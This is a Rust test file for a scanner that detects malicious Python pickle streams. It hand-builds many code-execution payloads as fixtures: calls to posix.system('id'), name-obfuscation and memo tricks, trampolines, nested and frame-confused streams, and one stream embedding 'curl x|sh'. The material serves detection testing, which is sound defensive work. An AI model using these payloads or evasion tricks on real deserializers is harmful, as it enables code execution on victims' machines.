//! The machine on small hand-written streams.

mod gadgets;

use proptest::prelude::*;

use super::{Dialect, Outcome, Stream, scan, scan_all};
use crate::context::{Context, Piece, TracedGlobal};
use crate::finding::{Finding, Severity};
use crate::limits::Limits;
use crate::source::MemorySource;
use crate::verdict::Verdict;

/// A stream being written.
#[derive(Clone, Default)]
struct Pickle(Vec<u8>);

impl Pickle {
    fn new() -> Self {
        Self(b"\x80\x04".to_vec())
    }

    fn op(mut self, bytes: &[u8]) -> Self {
        self.0.extend_from_slice(bytes);
        self
    }

    fn text(mut self, text: &str) -> Self {
        self.0.push(0x8c);
        self.0.push(text.len() as u8);
        self.op(text.as_bytes())
    }

    fn bytes(mut self, bytes: &[u8]) -> Self {
        self.0.push(b'B');
        self.0.extend_from_slice(&(bytes.len() as u32).to_le_bytes());
        self.op(bytes)
    }

    fn global(self, module: &str, name: &str) -> Self {
        self.text(module).text(name).op(b"\x93")
    }

    /// `posix.system("id")`
    fn attack(self) -> Self {
        self.global("posix", "system").text("id").op(b"\x85R")
    }

    fn stop(self) -> Vec<u8> {
        self.op(b".").0
    }
}

struct Seen {
    outcome: Outcome,
    verdict: Verdict,
    findings: Vec<Finding>,
    traced: Vec<TracedGlobal>,
    all_globals_safe: bool,
}

impl Seen {
    fn worst(&self, id: &str) -> Option<Severity> {
        self.findings.iter().filter(|finding| finding.id == id).map(|finding| finding.severity).max()
    }
}

fn door(piece: &Piece<'_>, context: &mut Context<'_>) -> bool {
    scan_all(&Stream::sniffed(piece), context).plausible
}

fn see_as(bytes: &[u8], dialect: Dialect, limits: &Limits) -> Seen {
    let source = MemorySource::new(bytes, b"");
    let mut context = Context::new(limits, door);
    let stream = Stream { source: &source, start: 0, end: bytes.len() as u64, dialect, member: None };
    let outcome = scan_all(&stream, &mut context);
    let (complete, all_globals_safe, traced) =
        (context.complete(), context.all_globals_safe, context.traced().to_vec());
    let findings = context.into_findings();
    Seen {
        outcome,
        verdict: Verdict::of(&findings, complete, all_globals_safe, &crate::Policy::standard()),
        findings,
        traced,
        all_globals_safe,
    }
}

fn see(bytes: &[u8]) -> Seen {
    see_as(bytes, Dialect::Plain, &Limits::default())
}

#[track_caller]
fn malicious(bytes: &[u8], id: &str) -> Seen {
    let seen = see(bytes);
    assert!(seen.worst(id) >= Some(Severity::High), "no severe {id} in {:#?}", seen.findings);
    assert_eq!(seen.verdict, Verdict::Malicious);
    seen
}

#[track_caller]
fn suspicious(bytes: &[u8], id: &str) {
    let seen = see(bytes);
    assert_eq!(seen.worst(id), Some(Severity::Medium), "{:#?}", seen.findings);
    assert_eq!(seen.verdict, Verdict::Suspicious);
}

#[track_caller]
fn clean(bytes: &[u8]) -> Seen {
    let seen = see(bytes);
    assert!(seen.outcome.plausible && seen.outcome.stopped, "{:?}", seen.outcome);
    assert_eq!(seen.verdict, Verdict::Clean, "{:#?}", seen.findings);
    seen
}

#[test]
fn data_of_every_kind_is_clean() {
    let values: &[&[u8]] = &[
        b"N",
        b"\x88",
        b"\x89",
        b"I1\n",
        b"I01\n",
        b"I0x10\n",
        b"L5L\n",
        b"F1.5\n",
        b"Fnan\n",
        b"J\x01\0\0\0",
        b"K\x01",
        b"M\x01\0",
        b"G\0\0\0\0\0\0\0\0",
        b"\x8a\x01\x01",
        b"\x8b\x01\0\0\0\x01",
        b"S'a'\n",
        b"T\x01\0\0\0a",
        b"U\x01a",
        b"Va\n",
        b"X\x01\0\0\0a",
        b"\x8c\x01a",
        b"\x8d\x01\0\0\0\0\0\0\0a",
        b"C\x01a",
        b"B\x01\0\0\0a",
        b"\x8e\x01\0\0\0\0\0\0\0a",
        b"\x96\x01\0\0\0\0\0\0\0a",
        b")",
        b"]",
        b"}",
        b"\x8f",
        b"(K\x01t",
        b"(K\x01l",
        b"(K\x01K\x02d",
        b"(K\x01\x91",
        b"N\x85",
        b"NN\x86",
        b"NNN\x87",
        b"N2\x86",
        b"](K\x01e",
        b"]K\x01a",
        b"}(K\x01K\x02u",
        b"}K\x01K\x02s",
        b"\x8f(K\x01\x90",
        b"N(NN1",
        b"N(0",
        b"Np0\n0g0\n",
        b"Nq\x010h\x01",
        b"Nr\x02\0\0\x000j\x02\0\0\0",
        b"N\x94",
        b"\x95\x01\0\0\0\0\0\0\0N",
        b"\x80\x02N",
        b"X\x03\0\0\0\xed\xa0\x80",
        b"\x97\x98",
    ];
    let mut all = Pickle::new();
    for value in values {
        clean(&Pickle::new().op(value).stop());
        all = all.op(value).op(b"0");
    }
    assert!(clean(&all.op(b"N").stop()).all_globals_safe);
}

#[test]
fn a_call_is_found_by_every_calling_opcode() {
    malicious(&Pickle::new().attack().stop(), "SNS-101");
    malicious(b"cposix\nsystem\n(S'id'\ntR.", "SNS-101");
    malicious(b"(S'id'\niposix\nsystem\n.", "SNS-101");
    malicious(b"(cposix\nsystem\nS'id'\no.", "SNS-101");
    malicious(b"(cposix\nsystem\nS'id'\no0N.", "SNS-101");
    malicious(&Pickle::new().global("subprocess", "Popen").text("id").op(b"\x85\x81").stop(), "SNS-101");
    malicious(&Pickle::new().global("subprocess", "Popen").text("id").op(b"\x85}\x92").stop(), "SNS-101");
}

#[test]
fn names_travel_through_memo_marks_and_stack() {
    // The memo is a map, MEMOIZE counts its entries, and entries are overwritten.
    malicious(
        &Pickle::new()
            .text("posix")
            .op(b"2p5\n0(K\x0110g5\n")
            .text("system")
            .op(b"\x93")
            .text("id")
            .op(b"\x85R")
            .stop(),
        "SNS-101",
    );
    malicious(
        &Pickle::new()
            .text("posix")
            .op(b"p100\n0")
            .text("x")
            .op(b"\x940h\x640h\x64")
            .text("system")
            .op(b"\x93")
            .text("id")
            .op(b"\x85R")
            .stop(),
        "SNS-101",
    );
    malicious(
        &Pickle::new()
            .text("collections")
            .op(b"q\x000")
            .text("posix")
            .op(b"q\x000h\x00")
            .text("system")
            .op(b"\x93")
            .text("id")
            .op(b"\x85R")
            .stop(),
        "SNS-101",
    );
    malicious(&Pickle::new().global("posix", "system").op(b"q\x000N0h\x00").text("id").op(b"\x85R").stop(), "SNS-101");
    malicious(
        &Pickle::new().text("posix").op(b"p0\n0g 0 \n").text("system").op(b"\x93").text("id").op(b"\x85R").stop(),
        "SNS-101",
    );
    assert_eq!(see(b"\x80\x04NNNNNNg 0 \n.").worst("SNS-202"), Some(Severity::Low));
}

#[test]
fn names_are_decoded_as_the_readers_do() {
    for name in [
        &b"S\"\\x70osix\"\n"[..],
        b"V\\u0070osix\n",
        b"U\x05posix",
        b"X\x05\0\0\0posix",
        b"\x8d\x05\0\0\0\0\0\0\0posix",
        b"C\x05posix",
    ] {
        malicious(&Pickle::new().op(name).text("system").op(b"\x93").text("id").op(b"\x85R").stop(), "SNS-101");
    }
    let join = Pickle::new().global("builtins", "str.join").text("").op(b"](").text("po").text("six").op(b"e\x86R");
    malicious(&join.text("system").op(b"\x93").text("id").op(b"\x85R").stop(), "SNS-101");
    let rot13 = Pickle::new().global("codecs", "decode").text("cbfvk").text("rot13").op(b"\x86R");
    malicious(&rot13.text("system").op(b"\x93").text("id").op(b"\x85R").stop(), "SNS-101");
    let computed =
        Pickle::new().global("mylib", "secret_name").op(b")R").text("system").op(b"\x93").text("id").op(b"\x85R");
    malicious(&computed.stop(), "SNS-102");
}

#[test]
fn aliases_paths_and_python_2_names() {
    malicious(&Pickle::new().global("glob", "os.system").text("id").op(b"\x85R").stop(), "SNS-101");
    malicious(&Pickle::new().global("statistics", "random._os.system").text("id").op(b"\x85R").stop(), "SNS-101");
    malicious(&Pickle::new().global("enum", "bltns.eval").text("1").op(b"\x85R").stop(), "SNS-101");
    malicious(&Pickle::new().global("tokenize", "_builtin_open").text("/x").text("w").op(b"\x86R").stop(), "SNS-101");
    malicious(
        &Pickle::new().global("copyreg", "_reconstructor.__builtins__.get").text("eval").op(b"\x85R").stop(),
        "SNS-105",
    );
    suspicious(&Pickle::new().global("collections", "_sys.modules.__class__").stop(), "SNS-105");
    malicious(b"\x80\x02ccommands\ngetoutput\nU\x02id\x85R.", "SNS-101");
    malicious(b"\x80\x02c__builtin__\neval\nU\x011\x85R.", "SNS-101");
    malicious(&Pickle::new().global("t\u{43e}rch._utils", "_rebuild_tensor_v2").op(b")R").stop(), "SNS-113");
}

#[test]
fn trampolines_call_what_they_are_given() {
    let system = |p: Pickle| p.global("posix", "system");
    malicious(&system(Pickle::new().global("functools", "partial")).text("id").op(b"\x86R").stop(), "SNS-101");
    malicious(&system(Pickle::new().global("builtins", "map")).op(b"](").text("id").op(b"e\x86R").stop(), "SNS-101");
    malicious(&system(Pickle::new().global("threading", "Thread").op(b"N")).text("n").op(b"\x87R").stop(), "SNS-101");
    let rebuild = system(Pickle::new().global("torch._tensor", "_rebuild_from_type_v2").op(b"("));
    malicious(&rebuild.global("collections", "OrderedDict").text("id").op(b"\x85}tR").stop(), "SNS-101");
    let reconstructor =
        Pickle::new().global("copyreg", "_reconstructor").global("builtins", "int").global("subprocess", "Popen");
    malicious(&reconstructor.text("id").op(b"\x87R").stop(), "SNS-101");
    let import =
        Pickle::new().global("builtins", "getattr").global("importlib", "import_module").text("os").op(b"\x85R");
    malicious(&import.text("system").op(b"\x86R").text("id").op(b"\x85R").stop(), "SNS-101");
    let caller = Pickle::new().global("operator", "methodcaller").text("system").text("id").op(b"\x86R");
    malicious(&caller.global("builtins", "__import__").text("os").op(b"\x85R\x85R").stop(), "SNS-101");
    let unknown = Pickle::new().global("mylib", "apply_it");
    malicious(&system(unknown).op(b"\x85R").stop(), "SNS-103");
}

#[test]
fn a_method_of_an_instance_is_its_class_s() {
    let path = Pickle::new().global("builtins", "getattr").global("pathlib", "PosixPath").text("/x").op(b"\x85R");
    malicious(&path.text("write_text").op(b"\x86R").text("y").op(b"\x85R").stop(), "SNS-101");
    clean(&Pickle::new().global("builtins", "getattr").global("mylib", "Color").text("RED").op(b"\x86R").stop());
}

#[test]
fn state_of_globals_classes_and_modules_is_not_to_be_changed() {
    malicious(&Pickle::new().global("collections", "OrderedDict").op(b"}K\x01K\x02sb").stop(), "SNS-106");
    malicious(&Pickle::new().global("sys", "modules").text("x").op(b"Ns").stop(), "SNS-106");
    let stored = Pickle::new().global("mynet", "MyNet").op(b")\x81}").text("_forward_hooks").global("posix", "system");
    malicious(&stored.op(b"sb").stop(), "SNS-115");
    // The partial is harmless when it is made, and dangerous after BUILD.
    let partial = Pickle::new()
        .global("functools", "partial")
        .global("builtins", "print")
        .op(b"\x85R(")
        .global("posix", "system");
    malicious(&partial.text("id").op(b"\x85}Ntb").stop(), "SNS-101");
    // The list is inside the tuple before the callable is inside the list.
    malicious(&Pickle::new().op(b"]q\x00\x85h\x00").global("posix", "system").op(b"a0").stop(), "SNS-115");
}

#[test]
fn classes_code_and_functions() {
    let class = Pickle::new()
        .global("builtins", "type")
        .text("X")
        .op(b")}")
        .text("append")
        .global("posix", "system")
        .op(b"s\x87R");
    malicious(&class.op(b")R").text("id").op(b"a").stop(), "SNS-107");
    let by_value = |name: &str| {
        Pickle::new()
            .global("cloudpickle.cloudpickle", "_make_function")
            .op(b"(")
            .global("cloudpickle.cloudpickle", "_builtin_type")
            .text("CodeType")
            .op(b"\x85R(K\x00K\x00K\x00K\x00K\x02K\x43")
            .bytes(b"code")
            .op(b"N\x85")
            .text(name)
            .op(b"\x85)")
            .text("f.py")
            .text("f")
            .op(b"K\x01")
            .bytes(b"")
            .op(b"))tR}NNNtR")
    };
    assert_eq!(clean(&by_value("sqrt").stop()).worst("SNS-111"), Some(Severity::Low));
    malicious(&by_value("system").stop(), "SNS-111");
    malicious(&by_value("sqrt").op(b")R").stop(), "SNS-111");
    malicious(&Pickle::new().global("types", "CodeType").op(b"K\x00\x85R").stop(), "SNS-111");
    malicious(&Pickle::new().global("marshal", "loads").bytes(b"c").op(b"\x85R").stop(), "SNS-101");
}

#[test]
fn extensions_and_persistent_ids() {
    let extension =
        Pickle::new().global("copyreg", "add_extension").text("posix").text("system").op(b"M\x34\x12\x87R0");
    let seen = malicious(&extension.op(b"\x83\x34\x12").text("id").op(b"\x85R").stop(), "SNS-101");
    assert_eq!(seen.worst("SNS-108"), Some(Severity::High));
    suspicious(b"\x80\x04\x82\x01.", "SNS-108");
    suspicious(b"\x80\x04Pabc\n.", "SNS-109");
    let torch = see_as(b"\x80\x02X\x01\0\0\0aQ.", Dialect::TorchZip, &Limits::default());
    assert_eq!(torch.verdict, Verdict::Clean);
}

#[test]
fn nested_streams_speak_for_themselves() {
    let inner = Pickle::new().attack().stop();
    let harmless = Pickle::new().op(b"K\x01").stop();
    malicious(&Pickle::new().global("pickle", "loads").bytes(&inner).op(b"\x85R").stop(), "SNS-101");
    malicious(&Pickle::new().global("torch.storage", "_load_from_bytes").bytes(&inner).op(b"\x85R").stop(), "SNS-101");
    clean(&Pickle::new().global("torch.storage", "_load_from_bytes").bytes(&harmless).op(b"\x85R").stop());
    malicious(&Pickle::new().global("pickle", "load").text("/x").op(b"\x85R").stop(), "SNS-110");
    suspicious(&Pickle::new().bytes(&inner).stop(), "SNS-110");
    let wrapped = Pickle::new().global("joblib", "load").global("io", "BytesIO").bytes(&inner).op(b"\x85R\x85R");
    malicious(&wrapped.stop(), "SNS-101");
}

#[test]
fn breaks_do_not_hide_what_ran_before() {
    for tail in [&b"\xff"[..], b"h\x63", b"K\x01K\x02\x93", b"X\xff\xff\xff\x7fa", b"", b"R", b"0000"] {
        malicious(&Pickle::new().attack().op(tail).0, "SNS-101");
    }
    suspicious(&Pickle::new().global("collections", "OrderedDict").op(b")R\xff").0, "SNS-202");
    suspicious(&Pickle::new().op(b"\x8e\xff\xff\xff\xff\xff\xff\xff\x7f").0, "SNS-207");
    // A payload behind the break.
    malicious(&Pickle::new().op(b"N\xff\xff\xff\xff").attack().0, "SNS-204");
}

#[test]
fn frames_that_readers_see_differently() {
    // The operand of SHORT_BINUNICODE crosses the frame: read on by one reader, read anew behind the frame by the other.
    let mut bytes = b"\x80\x04\x95\x03\0\0\0\0\0\0\0\x8c\x04ab".to_vec();
    bytes.extend_from_slice(b"cd");
    bytes.extend_from_slice(b"00");
    bytes.extend_from_slice(b"N.");
    let seen = malicious(&bytes, "SNS-201");
    assert!(seen.outcome.plausible);
    clean(&Pickle::new().op(b"\x95\x02\0\0\0\0\0\0\0K\x01").stop());
}

#[test]
fn streams_follow_streams() {
    let mut many = Vec::new();
    for _ in 0..99 {
        many.extend_from_slice(&Pickle::new().op(b"K\x01").stop());
    }
    assert_eq!(clean(&many).outcome.streams, 99);
    many.extend_from_slice(&Pickle::new().attack().stop());
    malicious(&many, "SNS-101");
    // The memo starts empty in each stream, but a second load of the same Unpickler still sees the old one.
    let mut shared = Pickle::new().text("posix").op(b"\x94").stop();
    shared.extend_from_slice(&Pickle::new().op(b"h\x00").text("system").op(b"\x93").text("id").op(b"\x85R").stop());
    malicious(&shared, "SNS-101");
    let source = MemorySource::new(&shared, b"");
    let limits = Limits::default();
    let mut context = Context::new(&limits, door);
    let stream =
        Stream { source: &source, start: 0, end: shared.len() as u64, dialect: Dialect::TorchLegacy, member: None };
    let outcome = scan(&stream, &mut context);
    assert!(outcome.stopped && outcome.end < shared.len() as u64 && outcome.streams == 1);
}

#[test]
fn joblib_arrays_are_stepped_over() {
    let wrapper = |dtype: &str| {
        Pickle::new()
            .global("joblib.numpy_pickle", "NumpyArrayWrapper")
            .op(b")\x81}(")
            .text("shape")
            .op(b"K\x02\x85")
            .text("dtype")
            .global("numpy", "dtype")
            .text(dtype)
            .op(b"\x89\x88\x87R(K\x03")
            .text("<")
            .op(b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
            .text("numpy_array_alignment_bytes")
            .op(b"K\x10ub")
    };
    let array = b"\x02\xff\xff\x0b\0\0\0\0\0\0\0\x0b\0\0\0\0\0\0\0";
    assert_eq!(clean(&wrapper("f8").op(array).stop()).findings.len(), 0);
    malicious(&wrapper("f8").op(array).attack().stop(), "SNS-101");
    // An object array is a stream of its own; what a plain reader runs into instead is looked at too.
    let nested = Pickle::new().attack().stop();
    malicious(&wrapper("O8").op(&nested).stop(), "SNS-101");
    clean(&wrapper("O8").op(&Pickle::new().op(b"]").stop()).stop());
    malicious(&wrapper("f8").attack().stop(), "SNS-101");
}

#[test]
fn exhaustion() {
    let mut laughs = Pickle::new().op(b"]\x94");
    for n in 0..30u8 {
        laughs = laughs.op(&[b'0', b'h', n, b'h', n, b'h', n, 0x87, 0x94]);
    }
    suspicious(&laughs.stop(), "SNS-206");
    suspicious(&Pickle::new().op(&[b'('; 6000]).op(b"t.").0, "SNS-206");
    suspicious(&Pickle::new().op(b"N").op(&[0x85; 2000]).stop(), "SNS-206");
    suspicious(&Pickle::new().op(b"N").op(&[b'2'; 2000]).stop(), "SNS-206");
    suspicious(&Pickle::new().global("re", "_compile").text("(a+)+$").op(b"K\x00\x86R").stop(), "SNS-206");
    suspicious(&Pickle::new().op(b"Nr\xff\xff\xff\x07").stop(), "SNS-206");
}

#[test]
fn unknown_callables_are_graded_by_use() {
    // A user's own class, as data.
    let own = clean(&Pickle::new().global("mynet", "MyNet").op(b")\x81}K\x01K\x02sb").stop());
    assert_eq!(own.worst("SNS-112"), Some(Severity::Info));
    assert!(!own.all_globals_safe);
    // Named like a maker of objects, given data.
    clean(&Pickle::new().global("newlib.core", "_rebuild_thing").op(b"K\x01\x85R").stop());
    // Given a command, a URL, a dangerous name.
    malicious(&Pickle::new().global("evil.loader", "run").text("touch /tmp/x").op(b"\x85R").stop(), "SNS-103");
    malicious(&Pickle::new().global("evil.loader", "get").text("http://a/b").op(b"\x85R").stop(), "SNS-103");
    malicious(&Pickle::new().global("evil.loader", "get").text("os.system").op(b"\x85R").stop(), "SNS-103");
    suspicious(&Pickle::new().global("__main__", "Evil").op(b")R").stop(), "SNS-103");
    suspicious(&Pickle::new().global("posix", "system").stop(), "SNS-104");
    suspicious(&Pickle::new().global("glob", "glob").text("/*").op(b"\x85R").stop(), "SNS-101");
}

#[test]
fn what_is_no_pickle_is_not_reported() {
    for other in
        [&b"{\"a\": 1}"[..], b"I am a text\nwith two lines\n", b"", b"PK\x03\x04", b"(this is not)", b"cannot\n"]
    {
        let seen = see(other);
        assert!(!seen.outcome.plausible, "{:?}", String::from_utf8_lossy(other));
        assert!(seen.findings.is_empty());
    }
}

#[test]
fn the_trace_names_every_import_as_written() {
    let seen = see(&Pickle::new().global("glob", "os.system").op(b"0").op(b"c__builtin__\nset\n").stop());
    let names: Vec<(&str, &str)> =
        seen.traced.iter().map(|global| (global.module.as_str(), global.name.as_str())).collect();
    assert_eq!(names, [("glob", "os.system"), ("__builtin__", "set")]);
}

#[test]
fn limits_are_findings_and_what_was_found_stands() {
    let limits = Limits { opcodes_max: 100_000, ..Limits::default() };
    let seen = see_as(&Pickle::new().attack().op(b"0").op(&b"N0".repeat(200_000)).stop(), Dialect::Plain, &limits);
    assert_eq!(seen.verdict, Verdict::Malicious);
    assert!(seen.worst("SNS-901").is_some());
    let seen = see_as(&Pickle::new().op(&b"N0".repeat(200_000)).stop(), Dialect::Plain, &limits);
    assert_eq!(seen.verdict, Verdict::Unscannable);
    // Behind the limit, spelled-out imports are still looked for.
    let seen = see_as(&Pickle::new().op(&b"N0".repeat(200_000)).attack().stop(), Dialect::Plain, &limits);
    assert_eq!(seen.verdict, Verdict::Malicious);
    // A full arena forgets data, not calls.
    let limits = Limits { values_max: 1_000, ..Limits::default() };
    let seen = see_as(&Pickle::new().op(&b"K\x01\x850".repeat(100_000)).attack().stop(), Dialect::Plain, &limits);
    assert_eq!(seen.verdict, Verdict::Malicious, "{:#?}", seen.findings);
}

fn small_limits() -> Limits {
    Limits { opcodes_max: 200_000, values_max: 100_000, nested_streams_max: 50, depth_max: 4, ..Limits::default() }
}

/// Opcodes with operands that are short enough to make sense.
fn any_opcode() -> impl Strategy<Value = Vec<u8>> {
    let names = prop::sample::select(vec![
        "os",
        "system",
        "builtins",
        "getattr",
        "collections",
        "OrderedDict",
        "functools",
        "partial",
        "eval",
        "a.b",
        "__class__",
        "type",
        "x",
        "",
    ]);
    prop_oneof![
        6 => prop::sample::select(super::opcode::ALL.to_vec()).prop_map(|opcode| vec![opcode]),
        3 => names.clone().prop_map(|name| [&[0x8c, name.len() as u8], name.as_bytes()].concat()),
        2 => (names.clone(), names).prop_map(|(module, name)| format!("c{module}\n{name}\n").into_bytes()),
        2 => (any::<u8>(), prop::sample::select(vec![b'h', b'q', b'K', 0x82])).prop_map(|(index, opcode)| vec![opcode, index % 8]),
        1 => any::<[u8; 3]>().prop_map(|bytes| bytes.to_vec()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn random_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..2048)) {
        see_as(&bytes, Dialect::Plain, &small_limits());
        see_as(&[b"\x80\x04", bytes.as_slice()].concat(), Dialect::Joblib, &small_limits());
        super::looks_like(&bytes);
    }

    #[test]
    fn random_programs_never_panic(opcodes in prop::collection::vec(any_opcode(), 0..400)) {
        let bytes = opcodes.concat();
        let seen = see_as(&bytes, Dialect::Plain, &small_limits());
        prop_assert!(seen.outcome.end <= bytes.len() as u64);
        prop_assert!(seen.outcome.opcodes <= bytes.len() as u64 + 1);
    }

    #[test]
    fn cuts_and_flips_never_panic_and_a_cut_behind_the_call_stays_malicious(cut in 0usize..200, flip in 0usize..200, bit in 0u8..8) {
        let whole = Pickle::new().attack().op(b"q\x00h\x00").global("mynet", "MyNet").op(b")\x81}b").text("abc").stop();
        let called = Pickle::new().attack().0.len();
        let cut = cut.min(whole.len());
        let seen = see(&whole[..cut]);
        prop_assert_eq!(seen.verdict == Verdict::Malicious, cut >= called);
        let mut flipped = whole;
        if let Some(byte) = flipped.get_mut(flip) {
            *byte ^= 1 << bit;
        }
        see(&flipped);
    }

    #[test]
    fn what_is_appended_never_makes_it_better(tail in prop::collection::vec(any::<u8>(), 0..256)) {
        let mut bytes = Pickle::new().attack().stop();
        bytes.extend_from_slice(&tail);
        prop_assert_eq!(see(&bytes).verdict, Verdict::Malicious);
    }
}

/// A list of `rows` small dictionaries, each memoized, as protocol 2 writes them.
fn rows(rows: u32, out: &mut Vec<u8>) {
    out.extend(b"\x80\x02]q\x00");
    for row in 0..rows {
        out.extend(b"(}r");
        out.extend((1 + 2 * row).to_le_bytes());
        out.extend(b"X\x02\0\0\0idr");
        out.extend((2 + 2 * row).to_le_bytes());
        out.extend(b"G\0\0\0\0\0\0\0\0K\x01\x86se");
    }
}

#[test]
fn a_stream_of_any_length_is_followed_in_bounded_memory() {
    let limits = Limits { values_max: 300_000, ..Limits::default() };
    let mut long = Vec::new();
    rows(60_000, &mut long);
    let mut clean = long.clone();
    clean.push(b'.');
    let seen = see_as(&clean, Dialect::Plain, &limits);
    assert_eq!(seen.worst("SNS-901"), None, "{:?}", seen.findings);
    // What comes after is judged as ever: by name, by a text that the memo has, by arguments.
    for payload in
        [&b"cos\nsystem\nX\x02\0\0\0id\x85R0."[..], b"X\x02\0\0\0osX\x06\0\0\0system\x93X\x02\0\0\0id\x85R0."]
    {
        let mut bad = long.clone();
        bad.extend(payload);
        assert_eq!(see_as(&bad, Dialect::Plain, &limits).verdict, Verdict::Malicious);
    }
    // Arguments that were forgotten: what the call does is not known, and that is said.
    let mut hidden = b"\x80\x02X\x0a\0\0\0curl x|sh \x85q\xff0".to_vec();
    rows(60_000, &mut hidden);
    hidden.extend(b"cours.x\nmake\nh\xffR.");
    let seen = see_as(&hidden, Dialect::Plain, &limits);
    assert_ne!(seen.verdict, Verdict::Clean, "{:?}", seen.findings);
}
